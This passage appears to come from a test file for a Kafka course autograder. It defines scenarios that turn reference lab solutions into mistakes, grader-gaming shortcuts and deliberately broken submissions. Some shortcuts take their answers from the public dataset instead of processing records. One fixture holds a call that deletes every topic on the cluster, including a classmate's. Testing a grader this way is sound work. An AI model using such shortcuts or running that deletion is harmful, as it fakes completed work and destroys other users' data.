        (Edit("lab5-alerts", "sub", 'f["dep_delay"] > 60:', 'f["dep_delay"] >= 60:'),),
        fails("lab5-q4"),
    ),
    Scenario(
        "stats-named-otherwise",
        "lab5",
        "exact statistics, but named count and total_delay where the "
        "text names them flights and delay_sum: the part says which names it reads",
        (
            Edit("lab5-stats", "sub", '{"count": 0, "total_delay": 0}', '{"flights": 0, "delay_sum": 0}'),
            Edit("lab5-stats", "sub", 's["count"] += 1', 's["flights"] += 1'),
            Edit("lab5-stats", "sub", 's["total_delay"] +=', 's["delay_sum"] +='),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "stats-from-the-dataset",
        "lab5",
        "the consumer polls, checkpoints its offsets and survives "
        "every crash, but takes its statistics from the public dataset instead of counting the records (shortcut)",
        (
            Edit(
                "lab5-stats",
                "sub",
                "from cluster.lab import load_flights\n"
                "DAY = load_flights(day=1)\n"
                'DATASET_STATS = {o: {"flights": sum(f["origin"] == o for f in DAY),\n'
                '                     "delay_sum": sum(f["dep_delay"] or 0 for f in DAY if f["origin"] == o)}\n'
                '                 for o in {f["origin"] for f in DAY}}\n'
                "state = load_checkpoint()",
                "state = load_checkpoint()",
            ),
            Edit(
                "lab5-stats",
                "sub",
                '            seen.add(json.loads(r.value)["id"])\n            state["stats"] = DATASET_STATS',
                "            f = json.loads(r.value)\n"
                '            if f["id"] in seen:\n'
                "                continue\n"
                '            seen.add(f["id"])\n'
                '            s = state["stats"].setdefault(f["origin"], {"flights": 0, "delay_sum": 0})\n'
                '            s["flights"] += 1\n'
                '            s["delay_sum"] += f["dep_delay"] or 0',
            ),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "alerts-without-transactions",
        "lab5",
        "the job sends with a plain producer and commits the "
        "consumer's offsets after each batch (at-least-once): a killed run's alerts stay visible",
        (
            Edit(
                "lab5-alerts",
                "sub",
                "producer = KafkaProducer(**connection())",
                "producer = KafkaProducer(**connection(), transactional_id=transactional_id(job))",
            ),
            Edit(
                "lab5-alerts", "sub", "last = time.monotonic()", "producer.init_transactions()\nlast = time.monotonic()"
            ),
            Edit("lab5-alerts", "sub", "    pass\n", "    producer.begin_transaction()\n"),
            Edit(
                "lab5-alerts",
                "sub",
                "    producer.flush()\n    consumer.commit(offsets)\n",
                "    producer.send_offsets_to_transaction(offsets, consumer.group_metadata())\n"
                "    producer.commit_transaction()\n",
            ),
        ),
        fails("lab5-q4"),
    ),
    Scenario(
        "offsets-outside-the-transaction",
        "lab5",
        "alerts in a transaction, but the input offsets "
        "committed by the consumer after it: a crash between the two repeats a batch",
        (
            Edit(
                "lab5-alerts",
                "sub",
                "    producer.commit_transaction()\n    consumer.commit(offsets)\n",
                "    producer.send_offsets_to_transaction(offsets, consumer.group_metadata())\n"
                "    producer.commit_transaction()\n",
            ),
        ),
        fails("lab5-q4"),
    ),
    Scenario(
        "alerts-from-the-dataset",
        "lab5",
        "the job computes the alerts from the public CSV and writes "
        "them in one transaction with the end offsets, without reading a record (shortcut)",
        (
            Edit(
                "lab5-alerts",
                "sub",
                """producer.init_transactions()
from cluster.lab import load_flights
late = [f for f in load_flights(day=1) if (f["dep_delay"] or 0) >= 60]
producer.begin_transaction()
for f in late:
    fid = f"{f['year']}-{f['month']:02d}-{f['day']:02d} {f['carrier']}{f['flight']} {f['origin']}"
    producer.send(alerts, key=fid.encode(), value=json.dumps({"id": fid, "dep_delay": f["dep_delay"]}).encode())
tps = list(consumer.assignment())
producer.send_offsets_to_transaction({tp: OffsetAndMetadata(o, "", -1) for tp, o in consumer.end_offsets(tps).items()},
                                     consumer.group_metadata())
producer.commit_transaction()
last, idle_s = time.monotonic(), 0   # nothing left to read
""",
                "producer.init_transactions()\nlast = time.monotonic()\n",
            ),
        ),
        fails("lab5-q4"),
    ),
    Scenario(
        "alerts-in-another-style",
        "lab5",
        "the job iterates the consumer, batches 100 records per "
        "transaction itself, takes offsets from position() and writes the alert with more fields",
        (
            Edit(
                "lab5-alerts",
                "replace",
                '''%%writefile alerts_job.py
"""Delay alerts, exactly once."""
import json, sys
from kafka import KafkaConsumer, KafkaProducer, TopicPartition
from kafka.structs import OffsetAndMetadata
from cluster import connection, group_name, topic_name, transactional_id

job, idle = sys.argv[1], float(sys.argv[2])
c = KafkaConsumer(**connection(), group_id=group_name(job), enable_auto_commit=False, auto_offset_reset="earliest",
                  isolation_level="read_committed", consumer_timeout_ms=int(idle * 1000))
parts = [TopicPartition(topic_name("departures"), p) for p in c.partitions_for_topic(topic_name("departures"))]
c.assign(parts)
p = KafkaProducer(**connection(), transactional_id=transactional_id(job), linger_ms=5)
p.init_transactions()
pending = 0
for record in c:
    if pending == 0:
        p.begin_transaction()
    flight = json.loads(record.value)
    if flight.get("dep_delay") and flight["dep_delay"] >= 60:
        p.send(topic_name(job), value=json.dumps(dict(flight, alert="late", id=flight["id"])).encode(),
               key=flight["id"].encode())
    pending += 1
    if pending == 100:
        p.send_offsets_to_transaction({tp: OffsetAndMetadata(c.position(tp), "", -1) for tp in parts},
                                      c.group_metadata())
        p.commit_transaction()
        pending = 0
if pending:
    p.send_offsets_to_transaction({tp: OffsetAndMetadata(c.position(tp), "", -1) for tp in parts}, c.group_metadata())
    p.commit_transaction()
p.close()
c.close()
''',
            ),
        ),
        fails(),
    ),
    # --- broken submissions: the grader survives each, scores what it can, says what happened
    Scenario(
        "syntax-error",
        "lab1",
        "a missing colon in the first function",
        (Edit("lab1-increase", "sub", "def increase(key, amt)\n", "def increase(key, amt):\n"),),
        fails("lab1-q1"),
        note="SyntaxError",
    ),
    Scenario(
        "exception-in-cell",
        "lab2",
        "an index error while reading the metadata",
        (Edit("lab2-locate", "sub", 'key=flights[len(flights)]["carrier"]', 'key=flight["carrier"]'),),
        fails("lab2-q3"),
        note="IndexError",
    ),
    Scenario(
        "infinite-poll-loop",
        "lab2",
        "a poll loop with no way out",
        (Edit("lab2-consume", "sub", "while True:", "while empty_polls < 3:"),),
        fails("lab2-q4"),
        note="interrupted",
    ),
    Scenario(
        "sleeps-forever",
        "lab1",
        "a sleep of eleven days before the measurements",
        (Edit("lab1-measure", "before", "import time\ntime.sleep(10**6)"),),
        note="interrupted",
    ),
    Scenario(
        "kernel-exits",
        "lab1",
        "os._exit(1) kills the kernel before the stream part",
        (Edit("lab1-send", "after", "import os\nos._exit(1)"),),
        fails("lab1-q4", "lab1-q5", "lab1-q6"),
        note="kernel died",
    ),
    Scenario(
        "prints-a-million-lines",
        "lab2",
        "a debugging print of a million lines",
        (Edit("lab2-create-topic", "after", "for i in range(1_000_000):\n    print('debug', i)"),),
        note="bytes of output",
    ),
    Scenario(
        "deletes-every-topic",
        "lab2",
        "a clean-up cell that deletes every topic on the cluster, and a classmate's topic by name",
        (
            Edit(
                "lab2-create-topic",
                "before",
                "lab.admin.delete_topics([t for t in lab.admin.list_topics() if not t.startswith('__')]\n"
                "                        + ['classmate.flights'])",
            ),
        ),
        note="TopicAuthorizationFailed",
    ),
    Scenario(
        "ten-thousand-partitions",
        "lab2",
        "a topic with 10,000 partitions",
        (Edit("lab2-create-topic", "sub", '"num_partitions": 10_000', '"num_partitions": 4'),),
        fails("lab2-q1", "lab2-q2", "lab2-q4", "lab2-q5"),
        note="PolicyViolationError",
    ),
    # Correct work in other styles: answers held in types the solutions never use.
    Scenario(
        "topic-from-newtopic-list",
        "lab2",
        "the topic created with the older list-of-NewTopic form "
        "(deprecated in kafka-python 3, still documented and working)",
        (
            Edit(
                "lab2-create-topic",
                "sub",
                "from kafka.admin import NewTopic\n"
                "lab.admin.create_topics([NewTopic(flights_topic, num_partitions=4, replication_factor=3,\n"
                '                                  topic_configs={"retention.ms": str(7 * 24 * 3600 * 1000)})])',
                'lab.admin.create_topics({flights_topic: {"num_partitions": 4, "replication_factor": 3,\n'
                '                                         "configs": {"retention.ms": "604800000"}}})',
            ),
        ),
        fails(),
    ),
    Scenario(
        "counts-in-a-counter",
        "lab1",
        "consume_counts sums with collections.Counter and returns it",
        (
            Edit(
                "lab1-consume",
                "sub",
                "    from collections import Counter\n    totals = Counter()\n",
                "    totals = {}\n",
            ),
            Edit("lab1-consume", "sub", "totals[key] += amount\n", "totals[key] = totals.get(key, 0) + amount\n"),
        ),
        fails(),
    ),
    Scenario(
        "consumer-stops-when-idle",
        "lab1",
        "consume_counts subscribes and stops after 5 idle seconds "
        "(consumer_timeout_ms), the other way the text names, instead of reading up to the end offsets",
        (
            Edit(
                "lab1-consume",
                "replace",
                "def consume_counts(topic):\n"
                '    consumer = KafkaConsumer(topic, **lab.connection, auto_offset_reset="earliest",\n'
                "                             consumer_timeout_ms=5000)\n"
                "    totals = {}\n"
                "    for record in consumer:\n"
                "        key, amount = decode_event(record.value)\n"
                "        totals[key] = totals.get(key, 0) + amount\n"
                "    consumer.close()\n"
                "    return totals\n\n"
                "stream_counts = consume_counts(events_topic)\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "delays-with-pandas",
        "lab2",
        "the averages computed with a pandas DataFrame (numpy floats in a "
        "pandas Series), offsets committed all the same",
        (
            Edit(
                "lab2-consume",
                "sub",
                "    import pandas as pd\n"
                "    frame = pd.DataFrame({'sum': pd.Series(sums), 'n': pd.Series(counts)})\n"
                "    return (frame['sum'] / frame['n']).round(2)\n",
                "    return {o: round(sums[o] / counts[o], 2) for o in sums}\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "skew-as-numpy",
        "lab3",
        "partition_loads with numpy integers as its keys and values",
        (
            Edit(
                "lab3-skew",
                "sub",
                "    import numpy as np\n"
                "    return {np.int64(tp.partition): np.int64(offset) for tp, offset in ends.items()}\n",
                "    return {tp.partition: offset for tp, offset in ends.items()}\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "hot-key-salted",
        "lab3",
        "B6 salted into four keys (B6-0 to B6-3, by plane) that the usual hash then spreads",
        (
            Edit(
                "lab3-partitioner",
                "sub",
                "        if serialized_key == self.HOT:\n"
                "            salt = (murmur2(value['tailnum'].encode()) & 0x7fffffff) % 4\n"
                "            serialized_key = b'B6-%d' % salt\n"
                "        return partitions[(murmur2(serialized_key) & 0x7fffffff) % len(partitions)]",
                HOT_KEY_SOLUTION,
            ),
        ),
        fails(),
    ),
    Scenario(
        "hot-key-planes-in-turn",
        "lab3",
        "B6's planes dealt out to the partitions in turn, remembered in a dict, the share measured with numpy",
        (
            Edit(
                "lab3-partitioner",
                "sub",
                "        if serialized_key != self.HOT:\n"
                "            return partitions[(murmur2(serialized_key) & 0x7fffffff) % len(partitions)]\n"
                "        seen = self.__dict__.setdefault('planes', {})\n"
                "        return partitions[seen.setdefault(value['tailnum'], len(seen) % len(partitions))]",
                HOT_KEY_SOLUTION,
            ),
            Edit(
                "lab3-spread",
                "sub",
                "    import numpy as np\n"
                "    counts = np.array(list(partition_loads(topic).values()))\n"
                "    return counts.max() / counts.sum()\n",
                "    loads = partition_loads(topic)\n    return max(loads.values()) / sum(loads.values())\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "servicer-with-setdefault",
        "lab1",
        "the counter and the servicer count with setdefault and +=, "
        "the servicer's replies built from keyword dicts, the client calls through a future",
        (
            Edit(
                "lab1-increase",
                "sub",
                "    counts.setdefault(key, 0)\n    counts[key] += amt\n    return counts[key]\n",
                "    counts[key] = counts.get(key, 0) + amt\n    return counts[key]\n",
            ),
            Edit(
                "lab1-servicer",
                "sub",
                "        with self.lock:\n"
                "            self.totals.setdefault(request.key, 0)\n"
                "            self.totals[request.key] += request.amount\n"
                "            return counter_pb2.IncreaseReply(**{'total': self.totals[request.key]})\n",
                "        with self.lock:\n"
                "            self.totals[request.key] = self.totals.get(request.key, 0) + request.amount\n"
                "            return counter_pb2.IncreaseReply(total=self.totals[request.key])\n",
            ),
            Edit(
                "lab1-client",
                "sub",
                "def rpc_increase(key, amt):\n"
                "    call = stub.Increase.future(counter_pb2.IncreaseRequest(key=key, amount=amt))\n"
                "    return call.result(timeout=5).total\n",
                "def rpc_increase(key, amt):\n"
                "    return stub.Increase(counter_pb2.IncreaseRequest(key=key, amount=amt)).total\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "consumes-with-statistics",
        "lab2",
        "the delays gathered in a defaultdict(list) and averaged with "
        "statistics.fmean, the poll loop stopping on a deadline after the last record; locate returns a list",
        (
            Edit(
                "lab2-consume",
                "sub",
                "    import statistics, time\n"
                "    from collections import defaultdict\n"
                "    by_origin = defaultdict(list)\n"
                "    quiet_since = time.monotonic()\n"
                "    while time.monotonic() - quiet_since < 3:\n"
                "        for records in consumer.poll(timeout_ms=500).values():\n"
                "            quiet_since = time.monotonic()\n"
                "            for r in records:\n"
                "                f = flight_pb2.Flight()\n"
                "                f.ParseFromString(r.value)\n"
                "                if f.HasField('dep_delay'):\n"
                "                    by_origin[f.origin].append(f.dep_delay)\n"
                "    consumer.commit()\n"
                "    consumer.close()\n"
                "    return {o: round(statistics.fmean(d), 2) for o, d in by_origin.items()}\n",
                SOLUTION_DELAYS_LOOP,
            ),
            Edit(
                "lab2-locate",
                "sub",
                "return [meta.topic_partition.partition, meta.offset]",
                "return (meta.partition, meta.offset)",
            ),
        ),
        fails(),
    ),
    Scenario(
        "member-commits-each-partition",
        "lab4",
        "group_member.py polls a few records at a time and commits "
        "each partition's next offset explicitly (OffsetAndMetadata), its partitions gathered as it goes",
        (
            Edit(
                "lab4-member",
                "sub",
                "from kafka.structs import OffsetAndMetadata\n"
                "consumer.subscribe(topics=[topic_name('departures')])\n"
                "records, owned = 0, set()\n"
                "idle_since = time.monotonic()\n"
                "while time.monotonic() - idle_since < idle_s:\n"
                "    for tp, batch in consumer.poll(timeout_ms=250, max_records=20).items():\n"
                "        records += len(batch)\n"
                "        consumer.commit({tp: OffsetAndMetadata(batch[-1].offset + 1, '', -1)})\n"
                "        idle_since = time.monotonic()\n"
                "    owned.update(tp.partition for tp in consumer.assignment())\n",
                LAB4_MEMBER_LOOP,
            ),
        ),
        fails(),
    ),
    Scenario(
        "member-with-a-rebalance-listener",
        "lab4",
        "group_member.py learns its partitions from a ConsumerRebalanceListener and polls in a loop of its own shape",
        (
            Edit(
                "lab4-member",
                "sub",
                "from kafka import ConsumerRebalanceListener\n\n"
                "class Track(ConsumerRebalanceListener):\n"
                "    def on_partitions_revoked(self, revoked):\n"
                "        pass\n\n"
                "    def on_partitions_assigned(self, assigned):\n"
                "        owned.update(tp.partition for tp in assigned)\n\n"
                "owned, records = set(), 0\n"
                "consumer.subscribe(topics=[topic_name('departures')], listener=Track())\n"
                "quiet = time.monotonic()\n"
                "while time.monotonic() - quiet < idle_s:\n"
                "    got = consumer.poll(timeout_ms=300)\n"
                "    records += sum(map(len, got.values()))\n"
                "    if got:\n"
                "        consumer.commit()\n"
                "        quiet = time.monotonic()\n",
                LAB4_MEMBER_LOOP,
            ),
        ),
        fails(),
    ),
    Scenario(
        "counts-by-assign-and-lag-by-committed",
        "lab4",
        "count_in_group assigns every partition and reads "
        "up to the end offsets (a numpy count); lag asks a consumer of the group for committed()",
        (
            Edit(
                "lab4-two-groups",
                "sub",
                "    import numpy as np\n"
                "    consumer = KafkaConsumer(**lab.connection, group_id=lab.group(group), enable_auto_commit=False)\n"
                "    tps = [TopicPartition(topic, p) for p in consumer.partitions_for_topic(topic)]\n"
                "    consumer.assign(tps)\n"
                "    consumer.seek_to_beginning()\n"
                "    last = consumer.end_offsets(tps)\n"
                "    n = 0\n"
                "    while any(consumer.position(tp) < last[tp] for tp in tps):\n"
                "        n += sum(len(rs) for rs in consumer.poll(timeout_ms=500).values())\n"
                "    consumer.commit()\n"
                "    consumer.close()\n"
                "    return np.int64(n)\n",
                LAB4_COUNT_SOLUTION,
            ),
            Edit(
                "lab4-lag",
                "sub",
                "    reader = KafkaConsumer(**lab.connection, group_id=group, enable_auto_commit=False)\n"
                "    tps = [TopicPartition(topic, p) for p in reader.partitions_for_topic(topic)]\n"
                "    last = reader.end_offsets(tps)\n"
                "    behind = {tp.partition: last[tp] - (reader.committed(tp) or 0) for tp in tps}\n"
                "    reader.close()\n"
                "    return behind\n",
                "    committed = lab.admin.list_group_offsets(group).get(group, {})\n"
                "    probe = KafkaConsumer(**lab.connection)\n"
                "    partitions = [TopicPartition(topic, p) for p in probe.partitions_for_topic(topic)]\n"
                "    ends = probe.end_offsets(partitions)\n"
                "    probe.close()\n"
                "    return {tp.partition: ends[tp] - (committed[tp].offset if tp in committed else 0) for tp in partitions}\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "checkpoint-with-mkstemp",
        "lab5",
        "the checkpoint read with pathlib, written to a mkstemp file "
        "and renamed over the old one, the start offsets taken with .get(..., 0)",
        (
            Edit(
                "lab5-stats",
                "sub",
                "    import pathlib\n"
                "    path = pathlib.Path(CHECKPOINT)\n"
                "    return json.loads(path.read_text()) if path.exists() else {'offsets': {}, 'stats': {}, 'seen': []}\n",
                "    if not os.path.exists(CHECKPOINT):\n"
                '        return {"offsets": {}, "stats": {}, "seen": []}\n'
                "    with open(CHECKPOINT) as f:\n"
                "        return json.load(f)\n",
            ),
            Edit(
                "lab5-stats",
                "sub",
                "    import tempfile\n"
                "    fd, tmp = tempfile.mkstemp(dir='.', prefix='checkpoint-')\n"
                "    with os.fdopen(fd, 'w') as f:\n"
                "        json.dump(state, f)\n"
                "    os.rename(tmp, CHECKPOINT)\n",
                '    tmp = CHECKPOINT + ".tmp"\n'
                '    with open(tmp, "w") as f:\n'
                "        json.dump(state, f)\n"
                "        f.flush()\n"
                "        os.fsync(f.fileno())\n"
                "    os.replace(tmp, CHECKPOINT)  # atomic: readers see the old file or the new one, never half\n",
            ),
            Edit(
                "lab5-stats",
                "sub",
                '    consumer.seek(tp, state["offsets"].get(str(tp.partition), 0))\n',
                '    if str(tp.partition) in state["offsets"]:\n'
                '        consumer.seek(tp, state["offsets"][str(tp.partition)])\n'
                "    else:\n"
                "        consumer.seek_to_beginning(tp)\n",
            ),
        ),
        fails(),
    ),
    # --- lab 6: realistic mistakes, shortcuts and other styles ---------------------------------
    Scenario(
        "missed-is-the-lag",
        "lab6",
        "counts what the group has not read yet (end minus committed), as if the log still started at 0",
        (
            Edit(
                "lab6-missed",
                "sub",
                "counts[tp.partition] = consumer.end_offsets([tp])[tp] - committed",
                "counts[tp.partition] = max(0, starts[tp] - committed)",
            ),
        ),
        fails("lab6-q1"),
    ),
    Scenario(
        "missed-goes-negative",
        "lab6",
        "a group ahead of the deletion gets a negative count",
        (
            Edit(
                "lab6-missed",
                "sub",
                "counts[tp.partition] = starts[tp] - committed",
                "counts[tp.partition] = max(0, starts[tp] - committed)",
            ),
        ),
        fails("lab6-q1"),
    ),
    Scenario(
        "missed-skips-uncommitted",
        "lab6",
        "leaves out the partitions the group never committed",
        (
            Edit(
                "lab6-missed",
                "sub",
                "    for tp in tps:\n        if consumer.committed(tp) is None:\n            continue\n",
                "    for tp in tps:\n",
            ),
        ),
        fails("lab6-q1"),
    ),
    Scenario(
        "missed-from-admin-offsets",
        "lab6",
        "committed offsets from the admin client, the counts as numpy integers",
        (
            Edit(
                "lab6-missed",
                "replace",
                "def missed(topic, group):\n"
                "    import numpy as np\n"
                "    committed = lab.admin.list_group_offsets(group).get(group, {})\n"
                "    probe = KafkaConsumer(**lab.connection)\n"
                "    tps = [TopicPartition(topic, p) for p in probe.partitions_for_topic(topic)]\n"
                "    starts = probe.beginning_offsets(tps)\n"
                "    probe.close()\n"
                "    return {tp.partition: np.maximum(0, np.int64(starts[tp]) - (committed[tp].offset if tp in committed else 0))\n"
                "            for tp in tps}\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "retention-keeps-a-week",
        "lab6",
        "predicts that a week's retention keeps everything for a week from now",
        (
            Edit(
                "lab6-predict",
                "sub",
                'predicted_kept = {"week": 842, "append-time": 842, "forever": 842, "week-plus-now": 843}',
                'predicted_kept = {"week": 0, "append-time": 842, "forever": 842, "week-plus-now": 1}',
            ),
        ),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "retention-one-segment",
        "lab6",
        "predicts that the record sent now keeps the flights with it (one segment)",
        (
            Edit(
                "lab6-predict",
                "sub",
                'predicted_kept = {"week": 0, "append-time": 842, "forever": 842, "week-plus-now": 843}',
                'predicted_kept = {"week": 0, "append-time": 842, "forever": 842, "week-plus-now": 1}',
            ),
        ),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "retention-as-numpy",
        "lab6",
        "the prediction built with dict() from numpy integers",
        (
            Edit(
                "lab6-predict",
                "sub",
                "import numpy as np\n"
                "predicted_kept = dict(zip(['week', 'append-time', 'forever', 'week-plus-now'], np.array([0, 842, 842, 1])))",
                'predicted_kept = {"week": 0, "append-time": 842, "forever": 842, "week-plus-now": 1}',
            ),
        ),
        fails(),
    ),
    Scenario(
        "survivors-drop-tombstones",
        "lab6",
        "tombstones are left out, as if compaction removed them at once",
        (
            Edit(
                "lab6-survivors",
                "sub",
                "        if value is None:\n            newest.pop(key, None)\n        else:\n            newest[key] = offset\n",
                "        newest[key] = offset                 # a later write of the key replaces it; a tombstone is a write too\n",
            ),
        ),
        fails("lab6-q3"),
    ),
    Scenario(
        "survivors-compact-the-active-segment",
        "lab6",
        "the active segment is compacted too",
        (
            Edit(
                "lab6-survivors",
                "sub",
                "    for offset, (key, value) in enumerate(closed + active):\n        newest[key] = offset\n"
                "    return sorted(newest.values())\n",
                "    for offset, (key, value) in enumerate(closed):\n"
                "        newest[key] = offset                 # a later write of the key replaces it; a tombstone is a write too\n"
                "    return sorted(newest.values()) + list(range(len(closed), len(closed) + len(active)))\n",
            ),
        ),
        fails("lab6-q3"),
    ),
    Scenario(
        "survivors-first-write-wins",
        "lab6",
        "keeps each key's first write instead of its newest",
        (
            Edit(
                "lab6-survivors",
                "sub",
                "newest.setdefault(key, offset)",
                "newest[key] = offset                 # a later write of the key replaces it; a tombstone is a write too",
            ),
        ),
        fails("lab6-q3"),
    ),
    Scenario(
        "survivors-scanned-backwards",
        "lab6",
        "scans the closed writes from the newest, keeping each key's first sighting, and returns a numpy array",
        (
            Edit(
                "lab6-survivors",
                "replace",
                "def survivors(closed, active):\n"
                "    import numpy as np\n"
                "    seen, keep = set(), []\n"
                "    for offset in range(len(closed) - 1, -1, -1):\n"
                "        if closed[offset][0] not in seen:\n"
                "            seen.add(closed[offset][0])\n"
                "            keep.append(offset)\n"
                "    return np.array(sorted(keep) + [len(closed) + i for i in range(len(active))])\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "rebuild-keeps-tombstones",
        "lab6",
        "a tombstone sets its key to None instead of removing it",
        (Edit("lab6-rebuild", "sub", "table[r.key.decode()] = None", "table.pop(r.key.decode(), None)"),),
        fails("lab6-q4"),
    ),
    Scenario(
        "rebuild-first-partition",
        "lab6",
        "reads partition 0 only",
        (
            Edit(
                "lab6-rebuild",
                "sub",
                "partitions = [TopicPartition(topic, 0)]",
                "partitions = [TopicPartition(topic, p) for p in sorted(consumer.partitions_for_topic(topic))]",
            ),
        ),
        fails("lab6-q4"),
    ),
    Scenario(
        "rebuild-from-the-dataset",
        "lab6",
        "the table built from the public flights instead of the topic (shortcut)",
        (
            Edit(
                "lab6-rebuild",
                "replace",
                "def rebuild(topic):\n"
                "    table = {}\n"
                "    for f in sorted(flights, key=departure_ms):\n"
                "        if f['tailnum']:\n"
                "            table[f['tailnum']] = {'tailnum': f['tailnum'], 'last_origin': f['origin'],\n"
                "                                   'last_dest': f['dest'], 'departed': f['dep_time']}\n"
                "    for tailnum in retired:\n"
                "        table.pop(tailnum, None)\n"
                "    return table\n",
            ),
        ),
        fails("lab6-q4"),
    ),
    Scenario(
        "rebuild-with-lab-read",
        "lab6",
        "the table rebuilt from the course's lab.read helper",
        (
            Edit(
                "lab6-rebuild",
                "replace",
                "def rebuild(topic):\n"
                "    table = {}\n"
                "    for r in lab.read(topic):\n"
                "        key = r.key.decode()\n"
                "        if r.value is None:\n"
                "            table.pop(key, None)\n"
                "        else:\n"
                "            table[key] = json.loads(r.value)\n"
                "    return table\n",
            ),
        ),
        fails(),
    ),
    # lab 7: graded on a cluster of the grading's own, whose brokers the checks stop and kill. Each
    # grading starts three brokers, so each scenario makes two mistakes (or two other styles) in
    # independent parts: the checks of different parts share nothing.
    Scenario(
        "stopped-broker-predicted-gone",
        "lab7",
        "right partition_state, and a prediction that a stopped broker leaves both the replica list and the "
        "ISR (wrong, not scored: the part's result says so)",
        (
            Edit(
                "lab7-predict-isr",
                "sub",
                'predicted_broker3 = {"replicas": False, "in_sync": False}\n',
                'predicted_broker3 = {"replicas": True, "in_sync": False}\n',
            ),
        ),
        fails(),
        note="you predicted {'replicas': False, 'in_sync': False}",
    ),
    Scenario(
        "isr-from-replicas-and-acks-1-needs-min-isr",
        "lab7",
        "reports every replica as in sync "
        "(replica_nodes for isr_nodes), and believes min.insync.replicas refuses acks=1 writes too",
        (
            Edit("lab7-state", "sub", 'sorted(p["replica_nodes"])', 'sorted(p["isr_nodes"])'),
            Edit(
                "lab7-accepts", "replace", "def accepts(acks, min_insync, in_sync):\n    return in_sync >= min_insync\n"
            ),
        ),
        fails("lab7-q1", "lab7-q2"),
    ),
    Scenario(
        "leader-is-first-replica-and-needs-more-than-min",
        "lab7",
        "takes the first replica (the "
        "preferred leader) as the leader, and believes acks='all' needs more replicas in sync than "
        "min.insync.replicas",
        (
            Edit("lab7-state", "sub", 'p["replica_nodes"][0]', 'p["leader_id"]'),
            Edit("lab7-accepts", "sub", "return in_sync > min_insync", "return in_sync >= min_insync"),
        ),
        fails("lab7-q1", "lab7-q2"),
    ),
    Scenario(
        "state-as-dicts-and-accepts-as-a-table",
        "lab7",
        "a new admin client per call, each partition as a "
        "dict with a set of in-sync brokers; accepts() from a table written out by hand, as numpy booleans; "
        "predicts (wrongly, as a numpy integer) that acks=1 keeps all 100 acknowledged records",
        (
            Edit(
                "lab7-state",
                "replace",
                "def partition_state(topic):\n"
                "    client = own.admin()\n"
                "    try:\n"
                "        meta = client.describe_topics([topic])[0]\n"
                "    finally:\n"
                "        client.close()\n"
                "    return {p['partition_index']: {'leader': p['leader_id'], 'isr': set(p['isr_nodes'])}\n"
                "            for p in meta['partitions']}\n",
            ),
            Edit(
                "lab7-accepts",
                "replace",
                "import numpy as np\n"
                "TABLE = {(a, m, i): np.bool_(a == 1 or i >= m) for a in (1, 'all') for m in (1, 2, 3) "
                "for i in (1, 2, 3)}\n\n"
                "def accepts(acks, min_insync, in_sync):\n"
                "    return TABLE[(acks, min_insync, in_sync)]\n",
            ),
            Edit(
                "lab7-predict", "sub", "import numpy as np\npredicted_kept = np.int64(100)\n", "predicted_kept = 50\n"
            ),
        ),
        fails(),
        note="predicted_kept: you predicted 100, the demo showed 50",
    ),
    Scenario(
        "producer-acks-1-and-consumer-from-latest",
        "lab7",
        "the producer waits for the leader only "
        "(acks=1); the consumer leaves auto_offset_reset at its default ('latest')",
        (
            Edit("lab7-producer", "sub", "acks=1, enable_idempotence=False", 'acks="all", enable_idempotence=True'),
            Edit("lab7-consumer", "sub", "", 'auto_offset_reset="earliest", '),
        ),
        fails("lab7-q3", "lab7-q4"),
    ),
    Scenario(
        "producer-reports-on-send-and-consumer-without-a-group",
        "lab7",
        "the producer prints 'acked' right "
        "after send(), before the broker answered; the consumer assigns the partitions itself and commits "
        "nothing",
        (
            Edit(
                "lab7-producer",
                "sub",
                "        producer.send(topic, value.encode())\n        print('acked', value, flush=True)\n",
                "        producer.send(topic, value.encode()).add_callback(report(value))\n",
            ),
            Edit(
                "lab7-consumer",
                "replace",
                "%%writefile consumer.py\n"
                "import sys\n"
                "from kafka import KafkaConsumer, TopicPartition\n"
                "from kafka.errors import KafkaError\n"
                "from cluster.own import connection\n\n"
                "consumer = KafkaConsumer(**connection())\n"
                "tps = [TopicPartition(sys.argv[1], p) for p in consumer.partitions_for_topic(sys.argv[1])]\n"
                "consumer.assign(tps)\n"
                "consumer.seek_to_beginning(*tps)\n"
                "while True:\n"
                "    try:\n"
                "        for records in consumer.poll(timeout_ms=1000).values():\n"
                "            for r in records:\n"
                "                print(r.value.decode(), flush=True)\n"
                "    except KafkaError:\n"
                "        pass\n",
            ),
        ),
        fails("lab7-q3", "lab7-q4"),
    ),
    Scenario(
        "producer-acks-1-behind-a-linger",
        "lab7",
        "acks=1 hidden behind a 4 s linger_ms, so that nothing is sent during a short refusal window",
        (
            Edit(
                "lab7-producer",
                "sub",
                "acks=1, enable_idempotence=False, linger_ms=4000",
                'acks="all", enable_idempotence=True, linger_ms=5',
            ),
        ),
        fails("lab7-q3"),
    ),
    Scenario(
        "producer-acks-1-waits-for-the-isr",
        "lab7",
        "acks=1, and 'acked' printed only once every "
        "partition has as many in-sync replicas as the topic's min.insync.replicas (which its login may "
        "read): it prints nothing a refusal would have stopped, but its writes landed all the same",
        (
            Edit(
                "lab7-producer",
                "replace",
                "%%writefile producer.py\n"
                "import queue, sys, threading, time\n"
                "from kafka import KafkaAdminClient, KafkaProducer\n"
                "from kafka.admin import ConfigResource, ConfigResourceType\n"
                "from cluster.own import connection\n\n"
                "topic = sys.argv[1]\n"
                "producer = KafkaProducer(**connection(), acks=1, enable_idempotence=False)\n"
                "admin = KafkaAdminClient(**connection())\n"
                "pending = queue.Queue()\n\n"
                "def healthy():\n"
                "    # an acks=1 answer comes at once: print it only when acks='all' would have been answered\n"
                "    try:\n"
                "        res = admin.describe_configs([ConfigResource(ConfigResourceType.TOPIC, topic)], "
                "config_filter='all')\n"
                "        need = int(res['topic'][topic]['min.insync.replicas']['value'])\n"
                "        parts = admin.describe_topics([topic])[0]['partitions']\n"
                "        return all(len(p['isr_nodes']) >= need for p in parts)\n"
                "    except Exception:\n"
                "        return False\n\n"
                "def printer():\n"
                "    while (value := pending.get()) is not None:\n"
                "        while not healthy():\n"
